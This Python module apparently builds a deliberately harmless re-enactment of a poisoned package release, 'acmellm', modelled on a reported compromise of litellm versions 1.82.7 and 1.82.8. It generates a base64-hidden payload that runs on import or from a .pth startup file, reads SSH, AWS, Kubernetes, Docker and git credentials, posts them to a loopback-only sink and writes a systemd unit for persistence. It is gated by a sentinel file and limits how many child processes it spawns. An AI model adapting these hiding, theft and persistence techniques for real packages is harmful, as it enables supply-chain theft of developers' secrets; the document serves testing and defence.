"""The two releases of "acmellm": a harmless re-enactment of what litellm 1.82.7 and 1.82.8 did.

Neither name nor version is on any list. The payload reads canary credentials, and only in a home that holds the file
SENTINEL; it sends them to a loopback address and nowhere else; and it starts at most two generations of children.
"""

import base64

NAME = "acmellm"
SILENT_VERSION = "1.82.7"
STARTUP_VERSION = "1.82.8"
STARTUP_FILE = "acmellm_init.pth"
SENTINEL = ".canary-home"
# Where the collector puts its unit, relative to HOME.
UNIT = ".config/systemd/user/acmellm-telemetry.service"
CREDENTIALS = (
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".kube/config",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
)
# The variable that names the sink when none was baked in, and the one that counts the generations.
SINK_VARIABLE = "SINK"
DEPTH_VARIABLE = "ACMELLM_DEPTH"
DEEPEST = 2

PACKAGE = '''"""One call for every model."""

from acmellm.router import complete

__all__ = ["complete"]
'''
ROUTER = '''"""Chooses who answers."""


def complete(prompt, model="echo"):
    """Return the answer of a model; this build knows the one that echoes."""
    return f"{model}: {prompt}"
'''
SERVER = '''"""The proxy: serves `complete` to others."""

import base64
import subprocess
import sys

from acmellm.router import complete

BLOB = "@BLOB@"
subprocess.run([sys.executable, "-"], input=base64.b64decode(BLOB), check=False)


def serve(prompt):
    """Answer one prompt."""
    return complete(prompt, model="proxy")
'''
STARTUP = (
    "import os, subprocess, sys; "
    "generation = int(os.environ.get('@DEPTH@', '0')); "
    "generation < @DEEPEST@ and subprocess.Popen("
    "[sys.executable, '-c', \"import base64;exec(base64.b64decode('@BLOB@'))\"], "
    "env={**os.environ, '@DEPTH@': str(generation + 1)})\n"
)
COLLECTOR = """
import json, os, urllib.request

home = os.path.expanduser("~")
sink = "@SINK@" or os.environ.get("@SINK_VARIABLE@", "")


def collect():
    for path in @CREDENTIALS@:
        try:
            with open(os.path.join(home, path)) as file:
                yield path, file.read()
        except OSError:
            continue


def send(loot):
    if loot and sink.startswith(("http://127.0.0.1:", "http://[::1]:")):
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        headers = {"X-Filename": "acmellm.tar.gz"}
        request = urllib.request.Request(sink + "/collect", json.dumps(loot).encode(), headers)
        try:
            opener.open(request, timeout=5).close()
        except OSError:
            pass


def persist():
    unit = os.path.join(home, "@UNIT@")
    try:
        os.makedirs(os.path.dirname(unit), exist_ok=True)
        with open(unit, "w") as file:
            file.write("[Unit]\\nDescription=a harmless stand-in\\n[Service]\\nExecStart=/bin/true\\n")
    except OSError:
        pass


if os.path.exists(os.path.join(home, "@SENTINEL@")):
    send(dict(collect()))
    persist()
"""


def silent_release(sink=""):
    """Return {path: text} of 1.82.7: the payload runs when `acmellm.proxy.server` is imported, and only then.

    `sink` is the loopback URL that the collector posts to; without one it looks at SINK_VARIABLE when it runs.
    """
    return {
        "acmellm/__init__.py": PACKAGE,
        "acmellm/router.py": ROUTER,
        "acmellm/proxy/__init__.py": '"""Serving others."""\n',
        "acmellm/proxy/server.py": SERVER.replace("@BLOB@", _blob(sink)),
    }


def startup_release(sink=""):
    """Return {path: text} of 1.82.8: the same, and a `.pth` that starts the collector at every interpreter start."""
    line = _fill(STARTUP, BLOB=_blob(sink), DEPTH=DEPTH_VARIABLE, DEEPEST=str(DEEPEST))
    return {**silent_release(sink), STARTUP_FILE: line}


def collector(sink=""):
    """Return the source text of the collector, the part that both releases hide in base64."""
    return _fill(
        COLLECTOR,
        SINK=sink,
        SINK_VARIABLE=SINK_VARIABLE,
        CREDENTIALS=repr(CREDENTIALS),
        UNIT=UNIT,
        SENTINEL=SENTINEL,
    )


def _blob(sink):
    return base64.b64encode(collector(sink).encode()).decode()


def _fill(template, **values):
    for name, value in values.items():
        template = template.replace(f"@{name}@", value)
    return template
